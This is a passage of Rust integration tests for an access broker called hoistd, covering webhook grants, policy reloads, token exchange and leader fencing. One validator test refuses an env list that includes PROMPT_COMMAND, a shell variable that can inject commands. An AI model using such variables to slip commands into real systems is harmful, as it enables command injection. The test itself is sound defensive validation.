    bob.approve(&extension.id).await.unwrap();
    let extended = alice.grant(&grant_id).await.unwrap();
    assert!(extended.expires_at > grant.expires_at);
    eventually(LONG, || async {
        target_access(&broker, &grant_id).await.reason.is_some()
    })
    .await;
    let access = target_access(&broker, &grant_id).await;
    assert_eq!(access.state, AccessState::Live);
    assert_eq!(access.live_until, Some(grant.expires_at));
    let reason = access.reason.unwrap_or_default();
    assert!(
        reason.contains("the new end is not at hook yet"),
        "{reason}"
    );
    // Asked for a credential, hoistd goes to the target (down for that
    // too), not refuses it as never provisioned.
    let refusal = refused(
        alice.credential(&grant_id).await,
        StatusCode::SERVICE_UNAVAILABLE,
        ErrorCode::Unavailable,
    );
    assert!(refusal.contains("is live"), "{refusal}");

    // Past the end the target has, the access there is gone.
    eventually(LONG, || async {
        target_access(&broker, &grant_id).await.state == AccessState::Failed
    })
    .await;
    let reason = target_access(&broker, &grant_id)
        .await
        .reason
        .unwrap_or_default();
    assert!(reason.contains("has not reached hook"), "{reason}");
    let refusal = refused(
        alice.credential(&grant_id).await,
        StatusCode::CONFLICT,
        ErrorCode::InvalidState,
    );
    assert!(refusal.contains("has not reached hook"), "{refusal}");
    // Counted, and streamed at the next retry, as a read shows it.
    eventually(LONG, || async {
        sample(
            &scrape(&broker).await,
            r#"hoistd_active_grants{access="failed"}"#,
        ) == 1.0
    })
    .await;
    let mut events = crate::events::EventStream::open(&alice).await;
    let streamed = loop {
        match events
            .within(LONG)
            .await
            .expect("the next retry is streamed")
        {
            hoist_api::LiveEvent::Grant { grant } if grant.id == grant_id => break grant,
            _ => continue,
        }
    };
    assert_eq!(streamed.access.unwrap().state, AccessState::Failed);

    *endpoint.mode.lock().unwrap() = Mode::Ok;
    eventually(LONG, || async {
        let access = target_access(&broker, &grant_id).await;
        access.state == AccessState::Live && access.reason.is_none() && access.live_until.is_none()
    })
    .await;
    let calls = endpoint.calls.lock().unwrap().clone();
    let told = calls
        .iter()
        .rev()
        .find(|call| call["action"] == "provision")
        .unwrap();
    assert_eq!(
        told["grant"]["expires_at"]
            .as_str()
            .map(|at| at.parse::<chrono::DateTime<chrono::Utc>>().unwrap()),
        Some(extended.expires_at),
        "{told}"
    );
    alice.credential(&grant_id).await.unwrap();
}

/// A role whose access changes while a grant of it is live: the removal
/// takes away what was given, not what the role gives now.
/// A receiver's access is its own to read: hoist cannot narrow it, so a
/// reload that changes what the role gives there ends the live grants
/// given the old access, and their removal names what they were given.
#[tokio::test]
async fn a_reload_changing_a_roles_access_ends_its_grants_at_a_receiver() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (broker, dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    let changed = policy(dir.path(), &url)
        .replace("cluster = \"prod\"", "cluster = \"staging\"")
        .replace("[\"get\", \"delete\"]", "[\"get\"]");
    std::fs::write(broker.policy_path(), changed).unwrap();
    broker.server().reload(&broker.policy_path()).await.unwrap();
    until_access(&broker, &grant.id, AccessState::Removed).await;
    let ended = broker.as_user("alice").grant(&grant.id).await.unwrap();
    assert_eq!(ended.state, GrantState::Revoked);
    let reason = ended.revoke_reason.unwrap_or_default();
    assert!(
        reason.contains("its role gives other access at hook"),
        "{reason}"
    );
    let calls = endpoint.calls.lock().unwrap().clone();
    let removal = calls
        .iter()
        .find(|call| call["action"] == "deprovision")
        .expect("a deprovision call");
    assert_eq!(removal["grant"]["access"]["cluster"], "prod", "{removal}");
    assert_eq!(
        removal["grant"]["access"]["verbs"],
        serde_json::json!(["get", "delete"])
    );
}

/// A reload that leaves a role's access at a receiver as it was leaves its
/// grants be; one that takes the target out of the role ends them.
#[tokio::test]
async fn a_reload_taking_a_receiver_out_of_a_role_ends_its_grants_there() {
    let (_endpoint, url) = own_receiver(Mode::Ok).await;
    let (broker, dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    reload(&broker, "the same policy").await;
    let kept = broker.as_user("alice").grant(&grant.id).await.unwrap();
    assert_eq!(kept.state, GrantState::Active);
    assert_eq!(kept.access.unwrap().state, AccessState::Live);

    let given = "target = \"hook\"\n\n[roles.access]\ncluster = \"prod\"\n\
                 verbs = [\"get\", \"delete\"]\n";
    let text = policy(dir.path(), &url);
    assert!(text.contains(given), "{text}");
    std::fs::write(broker.policy_path(), text.replace(given, "")).unwrap();
    reload(&broker, "the role without its access").await;
    until_access(&broker, &grant.id, AccessState::Removed).await;
    let ended = broker.as_user("alice").grant(&grant.id).await.unwrap();
    assert_eq!(ended.state, GrantState::Revoked);
    let reason = ended.revoke_reason.unwrap_or_default();
    assert!(
        reason.contains("its role no longer gives access at hook"),
        "{reason}"
    );
}

#[test]
fn webhook_targets_refuse_inline_secrets_plain_http_and_unknown_fields() {
    let base = |extra: &str| {
        format!(
            "{}\n[[targets]]\nname = \"hook\"\nkind = \"webhook\"\n{extra}\n",
            policy_text("")
        )
    };
    let line = policy_text("").lines().count() + 2;
    for (extra, said) in [
        (
            "url = \"https://hooks.example/\"\nsecret = \"s3cret\"",
            "writes its secret inline",
        ),
        (
            "url = \"http://hooks.example/\"\nsecret_env = \"HOIST_TEST_NO_SUCH_VAR\"",
            "must use https",
        ),
        (
            "url = \"https://hooks.example/\"\nsecret_env = \"HOIST_TEST_NO_SUCH_VAR\"",
            "HOIST_TEST_NO_SUCH_VAR (secret_env) is not set",
        ),
        (
            "url = \"https://hooks.example/\"\nsecret_file = \"/dev/null\"\ncolour = \"red\"",
            "unknown field `colour`",
        ),
        (
            "url = \"https://hooks.example/\"\nsecret_file = \"/dev/null\"\nenv = [\"TOKEN\", \"PROMPT_COMMAND\"]",
            "env: \"PROMPT_COMMAND\" decides what a command runs",
        ),
    ] {
        let err = hoistd::Policy::parse("p.toml", &base(extra))
            .unwrap_err()
            .to_string();
        assert!(err.starts_with(&format!("p.toml:{line}:")), "{err}");
        assert!(err.contains(said), "{err}");
        assert!(!err.contains("s3cret"), "{err}");
    }
    let err = hoistd::Policy::parse(
        "p.toml",
        &format!(
            "{}{}",
            policy_text(""),
            target_role("x", "nowhere", "a = 1")
        ),
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("names target `nowhere`, which no [[targets]] defines"),
        "{err}"
    );
    assert!(
        err.starts_with(&format!("p.toml:{}:", policy_text("").lines().count() + 2)),
        "{err}"
    );
}

/// A policy that points a target holding access at another receiver is
/// refused: the grant's removal would go there, and its access stay where
/// it is.
#[tokio::test]
async fn a_target_holding_access_cannot_be_pointed_elsewhere() {
    let (_endpoint, url) = own_receiver(Mode::Ok).await;
    let (_other, other_url) = own_receiver(Mode::Ok).await;
    let (broker, dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    std::fs::write(broker.policy_path(), policy(dir.path(), &other_url)).unwrap();
    let refused = reload_refused(&broker, "a target holding access cannot move").await;
    assert!(
        refused.contains("points target `hook` at webhook"),
        "{refused}"
    );
    assert!(!refused.contains("webhook-secret"), "{refused}");
}

/// A target pointed at another receiver while hoistd was down (a reload
/// would have been refused, above): nothing is done for a grant whose
/// access was given at the first one anywhere else. Its credential is
/// refused, its removal waits, saying why, and the new receiver hears
/// nothing of it; once the target names the first receiver again, the
/// removal runs there.
#[tokio::test]
async fn a_removal_runs_only_where_its_access_was_given() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (other, other_url) = own_receiver(Mode::Ok).await;
    let (mut broker, dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    broker.stop().await;
    std::fs::write(broker.policy_path(), policy(dir.path(), &other_url)).unwrap();
    broker.restart().await;
    // What `serve` logs at start.
    let left = broker.broker().access_left_behind().unwrap();
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(
        left[0].starts_with("target `hook` names webhook ")
            && left[0].contains("but grants hold access at webhook "),
        "{left:?}"
    );
    // The reconciler does not look for it there either (and give it again).
    broker.reconciled().await;
    assert!(other.calls.lock().unwrap().is_empty());

    let refused = broker
        .as_user("alice")
        .credential(&grant.id)
        .await
        .expect_err("its access is at the first receiver");
    assert_eq!(refused.0, reqwest::StatusCode::CONFLICT, "{refused:?}");
    assert!(
        refused.1.message.contains("was given at webhook"),
        "{refused:?}"
    );
    broker
        .as_user("alice")
        .revoke(&grant.id, "done")
        .await
        .unwrap();
    let alice = broker.as_user("alice");
    eventually(Duration::from_secs(30), || async {
        let access = alice.grant(&grant.id).await.unwrap().access.unwrap();
        access.state == AccessState::Removing
            && access
                .reason
                .is_some_and(|why| why.contains("now names webhook"))
    })
    .await;
    assert!(endpoint.held.lock().unwrap().contains(&grant.id));
    assert!(other.calls.lock().unwrap().is_empty());
    // A reload that moves nothing more is not held up by what waits.
    reload(&broker, "this reload moves nothing").await;

    broker.stop().await;
    std::fs::write(broker.policy_path(), policy(dir.path(), &url)).unwrap();
    broker.restart().await;
    until_access(&broker, &grant.id, AccessState::Removed).await;
    assert!(!endpoint.held.lock().unwrap().contains(&grant.id));
    assert!(other.calls.lock().unwrap().is_empty());
}

/// A target whose URL changed for the same receiver (its token rotated)
/// lists the system it was in `formerly`: a reload may point it there, and
/// what grants were given before is removed at the new URL.
#[tokio::test]
async fn formerly_names_what_a_target_was_known_as() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (rotated, rotated_url) = own_receiver(Mode::Ok).await;
    let (broker, dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    let was = broker
        .broker()
        .policy()
        .targets
        .get("hook")
        .unwrap()
        .system();
    let moved = policy(dir.path(), &rotated_url);
    std::fs::write(broker.policy_path(), &moved).unwrap();
    let refused = reload_refused(&broker, "not said to be the same system").await;
    assert!(refused.contains("`formerly`"), "{refused}");

    let declared = moved.replace(
        "name = \"hook\"\n",
        &format!("name = \"hook\"\nformerly = [\"{was}\"]\n"),
    );
    assert_ne!(declared, moved);
    std::fs::write(broker.policy_path(), &declared).unwrap();
    reload(&broker, "the same system, by the policy's word").await;
    let rotated_system = broker
        .broker()
        .policy()
        .targets
        .get("hook")
        .unwrap()
        .system();
    // Back where the access was given: nothing to vouch for.
    std::fs::write(broker.policy_path(), policy(dir.path(), &url)).unwrap();
    reload(&broker, "the access is where the target points").await;
    std::fs::write(broker.policy_path(), &declared).unwrap();
    reload(&broker, "the same system, by the policy's word").await;
    // What `formerly` says of one system is not said of the next: a move
    // on, the old line left in, is a move.
    let (_third, third_url) = own_receiver(Mode::Ok).await;
    std::fs::write(
        broker.policy_path(),
        declared.replace(&rotated_url, &third_url),
    )
    .unwrap();
    let refused =
        reload_refused(&broker, "the third receiver was never said to be the first").await;
    assert!(refused.contains("points target `hook`"), "{refused}");
    assert!(
        refused.contains(&format!("list \"{rotated_system}\"")),
        "{refused}"
    );
    std::fs::write(broker.policy_path(), &declared).unwrap();
    broker
        .as_user("alice")
        .revoke(&grant.id, "done")
        .await
        .unwrap();
    until_access(&broker, &grant.id, AccessState::Removed).await;
    assert!(
        rotated
            .calls
            .lock()
            .unwrap()
            .iter()
            .any(|call| call["action"] == "deprovision" && call["grant"]["id"] == grant.id)
    );
    assert!(endpoint.held.lock().unwrap().contains(&grant.id));

    let wrong = declared.replace("formerly = [", "formerly = [1, ");
    std::fs::write(broker.policy_path(), &wrong).unwrap();
    let refused = reload_refused(&broker, "not a system").await;
    assert!(refused.contains("`formerly` lists systems"), "{refused}");
    let other_kind = declared.replace("formerly = [", "formerly = [\"postgres db1:5432\", ");
    std::fs::write(broker.policy_path(), &other_kind).unwrap();
    let refused = reload_refused(&broker, "another kind").await;
    assert!(
        refused.contains("`formerly` entry 1 is not a webhook system"),
        "{refused}"
    );
    assert!(!refused.contains("db1"), "{refused}");
}

/// A target dropped while hoistd was down: its grants' removal waits for
/// it (logged at start), and holds up no reload that drops nothing more.
#[tokio::test]
async fn a_target_dropped_while_down_holds_up_no_reload() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (mut broker, dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    broker.stop().await;
    let without = policy_text("")
        + &target_role("k8s-admin", "hook", "")
            .replace("target = \"hook\"\n", "")
            .replace("[roles.access]\n", "");
    std::fs::write(broker.policy_path(), &without).unwrap();
    broker.restart().await;
    let left = broker.broker().access_left_behind().unwrap();
    assert!(
        left.len() == 1 && left[0].contains(&format!("hook (grants {})", grant.id)),
        "{left:?}"
    );
    reload(&broker, "this reload drops nothing").await;

    std::fs::write(broker.policy_path(), policy(dir.path(), &url)).unwrap();
    reload(&broker, "the target is back").await;
    broker
        .as_user("alice")
        .revoke(&grant.id, "done")
        .await
        .unwrap();
    until_access(&broker, &grant.id, AccessState::Removed).await;
    assert!(!endpoint.held.lock().unwrap().contains(&grant.id));
}

/// A policy that drops a target still holding access is refused, and the
/// policy in force stays: the removal could never run, and the access would
/// stay. Once the access is removed, the target may go.
#[tokio::test]
async fn a_target_holding_access_cannot_be_dropped_from_the_policy() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (broker, _dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    // The role stays, without its target.
    let without = policy_text("")
        + &target_role("k8s-admin", "hook", "")
            .replace("target = \"hook\"\n", "")
            .replace("[roles.access]\n", "");
    std::fs::write(broker.policy_path(), &without).unwrap();
    let refused = reload_refused(&broker, "a target holding access cannot go").await;
    assert!(
        refused.contains("drops targets that still hold access"),
        "{refused}"
    );
    assert!(
        refused.contains(&format!("hook (grants {})", grant.id)),
        "{refused}"
    );
    // The policy in force is the one with the target.
    assert!(broker.as_user("alice").credential(&grant.id).await.is_ok());

    broker
        .as_user("alice")
        .revoke(&grant.id, "done")
        .await
        .unwrap();
    until_access(&broker, &grant.id, AccessState::Removed).await;
    assert!(!endpoint.held.lock().unwrap().contains(&grant.id));
    reload(&broker, "nothing holds access there now").await;
}

/// A workload's exchange for a role with a target answers once the access
/// is live, with the access in the response; its own revocation removes it.
#[tokio::test]
async fn a_workload_exchange_returns_the_access_at_the_target_and_its_revoke_removes_it() {
    let provider = crate::oidc::Provider::start().await;
    let receiver = example_receiver();
    let dir = tempfile::tempdir().unwrap();
    let text = format!(
        "{}\n[[workloads]]\nname = \"ci\"\nissuer = \"{}\"\naudience = \"https://hoist.test/ci\"\n\
         [workloads.claims]\nsub = \"deploy-bot\"\n[[workloads.roles]]\nrole = \"k8s-admin\"\n\
         max_ttl_minutes = 5\napproval = \"automatic\"\n",
        policy(dir.path(), &receiver.url),
        provider.issuer
    );
    let broker = TestBroker::builder().policy(&text).start().await;
    let token = provider
        .workload_token(
            "deploy-bot",
            "https://hoist.test/ci",
            &serde_json::json!({}),
            None,
        )
        .await;
    let answer = reqwest::Client::new()
        .post(format!("{}/v1/token", broker.url()))
        .form(&[
            ("grant_type", hoist_api::TOKEN_EXCHANGE_GRANT),
            ("subject_token", token.as_str()),
            ("subject_token_type", hoist_api::JWT_TOKEN_TYPE),
            ("scope", "k8s-admin"),
        ])
        .send()
        .await
        .unwrap();
    // Provisioning at a receiver on loopback takes far less than the
    // exchange waits; the 202 path is the poll the other tests cover.
    assert_eq!(answer.status(), StatusCode::OK);
    let issued: hoist_api::TokenExchangeResponse = answer.json().await.unwrap();
    let handed = issued.access.expect("the access at the target");
    assert_eq!(handed.kind, "webhook");
    assert_eq!(handed.env["EXAMPLE_GRANT"], issued.grant_id);
    assert_eq!(handed.env["EXAMPLE_USER"], "workload:ci:deploy-bot");
    let grant = broker
        .as_user("erin")
        .grant(&issued.grant_id)
        .await
        .unwrap();
    assert!(handed.expires_at <= grant.expires_at);
    assert_eq!(grant.holder, "workload:ci:deploy-bot");

    let revoked = reqwest::Client::new()
        .post(format!("{}/v1/token/revoke", broker.url()))
        .bearer_auth(&issued.access_token)
        .send()
        .await
        .unwrap();
    assert_eq!(revoked.status(), StatusCode::OK);
    let erin = broker.as_user("erin");
    eventually(LONG, || async {
        erin.grant(&issued.grant_id)
            .await
            .unwrap()
            .access
            .unwrap()
            .state
            == AccessState::Removed
    })
    .await;
}

/// Two instances on one PostgreSQL database: a call the leader makes
/// carries its lease's epoch; the inspect behind a credential fetched at the
/// other instance, which leads nothing, or at the leader once it lost the
/// lease, carries none, so a fencing receiver never takes it for a
/// leader's.
#[tokio::test]
async fn only_the_leader_calls_under_an_epoch() {
    use hoistd::store::Location;
    use hoistd::target::Ledger;
    use hoistd::{Options, Policy, Server};

    let pg = Postgres::start()
        .await
        .unwrap_or_else(|err| panic!("{err}"));
    let db = pg.create_database("hoistd").unwrap();
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let dir = tempfile::tempdir().unwrap();
    let mut servers = Vec::new();
    for _ in 0..2 {
        let store = Location::Postgres(db.clone()).open().unwrap();
        let policy = Policy::parse("policy.toml", &policy(dir.path(), &url)).unwrap();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        servers.push(
            Server::start_with(listener, store, policy, Options::default())
                .await
                .unwrap(),
        );
    }
    eventually(LONG, || async {
        servers.iter().filter(|s| s.broker.leads_now()).count() == 1
    })
    .await;
    let (leader, other) = if servers[0].broker.leads_now() {
        (0, 1)
    } else {
        (1, 0)
    };
    let client = |index: usize, user: &str| Client {
        base: format!("http://{}", servers[index].addr),
        token: format!("t-{user}"),
        http: reqwest::Client::new(),
    };
    let filed = client(other, "alice")
        .file(&request("k8s-admin", "rotate the node pool"))
        .await
        .unwrap();
    let approved = client(other, "bob").approve(&filed.id).await.unwrap();
    let grant = approved.grant_id.unwrap();
    eventually(LONG, || async {
        client(other, "alice")
            .grant(&grant)
            .await
            .unwrap()
            .access
            .is_some_and(|access| access.state == AccessState::Live)
    })
    .await;
    let epoch = servers[leader]
        .broker
        .lease()
        .borrow()
        .clone()
        .unwrap()
        .epoch;

    let calls_before = endpoint.calls.lock().unwrap().len();
    client(other, "alice").credential(&grant).await.unwrap();
    let at_other = endpoint.calls.lock().unwrap()[calls_before..].to_vec();
    let calls_before = endpoint.calls.lock().unwrap().len();
    client(leader, "alice").credential(&grant).await.unwrap();
    let calls = endpoint.calls.lock().unwrap().clone();
    let at_leader = &calls[calls_before..];

    let provisions: Vec<_> = calls
        .iter()
        .filter(|call| call["action"] == "provision")
        .collect();
    assert!(!provisions.is_empty(), "{calls:?}");
    assert!(
        provisions.iter().all(|call| call["leader_epoch"] == epoch),
        "the leader provisions under its epoch {epoch}: {calls:?}"
    );
    // The reconciler may inspect too, from the leader; the fetch's own
    // inspect is the one without an epoch.
    assert!(
        at_other
            .iter()
            .any(|call| call["action"] == "inspect" && call["leader_epoch"].is_null()),
        "the other instance's inspect carries no epoch: {at_other:?}"
    );
    assert!(
        !at_leader.is_empty() && at_leader.iter().all(|call| call["leader_epoch"] == epoch),
        "the leader's inspect carries its epoch {epoch}: {at_leader:?}"
    );

    // Another instance takes the lease over: the deposed leader still
    // serves, and what it calls for carries no epoch, not its old one.
    let admin = pg.admin_in("hoistd").await.unwrap();
    admin
        .execute(
            "UPDATE leadership SET holder = 'elsewhere', epoch = epoch + 1, \
             expires_at = clock_timestamp() + interval '1 hour'",
            &[],
        )
        .await
        .unwrap();
    eventually(LONG, || async { !servers[leader].broker.leads_now() }).await;
    let calls_before = endpoint.calls.lock().unwrap().len();
    client(leader, "alice").credential(&grant).await.unwrap();
    let deposed = endpoint.calls.lock().unwrap()[calls_before..].to_vec();
    assert!(
        !deposed.is_empty() && deposed.iter().all(|call| call["leader_epoch"].is_null()),
        "a deposed leader calls under no epoch: {deposed:?}"
    );
    for server in servers {
        server.stop().await;
    }
}

/// A CI job's task for `k8s-admin`, whose access is at our own receiver:
/// filed, approved by bob, and live there.
struct HookedTask {
    endpoint: Endpoint,
    broker: TestBroker,
    token: String,
    grant_id: String,
    _provider: crate::oidc::Provider,
    _dir: tempfile::TempDir,
}

async fn hooked_task() -> HookedTask {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("webhook-secret"), SECRET).unwrap();
    let provider = crate::oidc::Provider::start().await;
    let extra = format!(
        "[[workloads.roles]]\nrole = \"k8s-admin\"\nmax_ttl_minutes = 10\napproval = \"person\"\n\n\
         [[targets]]\nname = \"hook\"\nkind = \"webhook\"\nurl = \"{url}\"\n\
         secret_file = \"{}\"\ntimeout = \"5s\"\n{}",
        dir.path().join("webhook-secret").display(),
        target_role("k8s-admin", "hook", "cluster = \"prod\""),
    );
    let broker = TestBroker::builder()
        .policy(&crate::workloads::policy(&provider.issuer, &extra))
        .start()
        .await;
    let token = crate::workloads::ci_token(&provider).await;
    let (status, body) = crate::workloads::exchange_for(&broker, &token, "k8s-admin").await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    let request_id = body["request_id"].as_str().unwrap().to_string();
    let approved = broker.as_user("bob").approve(&request_id).await.unwrap();
    let grant_id = approved.grant_id.expect("approved");
    until_access(&broker, &grant_id, AccessState::Live).await;
    HookedTask {
        endpoint,
        broker,
        token,
        grant_id,
        _provider: provider,
        _dir: dir,
    }
}

/// A job that withdraws while its own credential is being handed over (the
/// target slow to answer), then goes: the withdrawal, made while the task
/// was redeemed, leaves the grant to whoever the hand-over reaches; it
/// reaches nobody, and the grant is revoked and its access removed rather
/// than left live with nobody to use or end it.
#[tokio::test]
async fn a_job_that_withdraws_during_its_hand_over_and_goes_leaves_nothing_behind() {
    // The provider and the secret's directory are kept to the end.
    let HookedTask {
        endpoint,
        broker,
        token,
        grant_id,
        _provider,
        _dir,
    } = hooked_task().await;

    *endpoint.mode.lock().unwrap() = Mode::SlowOk;
    let asked = endpoint.calls.lock().unwrap().len();
    let exchange = tokio::spawn({
        let (url, form) = (
            format!("{}/v1/token", broker.url()),
            crate::workloads::task_form(&token, "k8s-admin"),
        );
        async move {
            reqwest::Client::new()
                .post(url)
                .form(&form)
                .timeout(Duration::from_secs(2))
                .send()
                .await
        }
    });
    // The hand-over is at the target: the task is redeemed.
    eventually(LONG, || async {
        let calls = endpoint.calls.lock().unwrap();
        calls.len() > asked && calls[asked..].iter().any(|c| c["action"] == "inspect")
    })
    .await;
    let (status, body) = crate::workloads::withdraw(&broker, &token, "k8s-admin").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["grant_state"], "active", "{body}");
    let gone = exchange.await.unwrap();
    assert!(gone.is_err(), "answered within 2 s: {gone:?}");
    *endpoint.mode.lock().unwrap() = Mode::Ok;

    until_access(&broker, &grant_id, AccessState::Removed).await;
    assert!(!endpoint.held.lock().unwrap().contains(&grant_id));
}

/// A job whose caller went while its credential was being handed over (the
/// target slow to answer) got nothing: its task is opened again, so its
/// withdrawal ends the grant rather than leave it to nobody.
#[tokio::test]
async fn a_job_gone_before_its_hand_over_leaves_its_task_open() {
    let HookedTask {
        endpoint,
        broker,
        token,
        _provider,
        _dir,
        ..
    } = hooked_task().await;

    *endpoint.mode.lock().unwrap() = Mode::SlowOk;
    let gone = reqwest::Client::new()
        .post(format!("{}/v1/token", broker.url()))
        .form(&crate::workloads::task_form(&token, "k8s-admin"))
        .timeout(Duration::from_secs(1))
        .send()
        .await;
    assert!(gone.is_err(), "answered within 1 s: {gone:?}");
    // The hand-over's call to the target ends meanwhile.
    tokio::time::sleep(Duration::from_secs(4)).await;
    *endpoint.mode.lock().unwrap() = Mode::Ok;

    let (status, body) = crate::workloads::withdraw(&broker, &token, "k8s-admin").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["grant_state"], "revoked", "{body}");
}
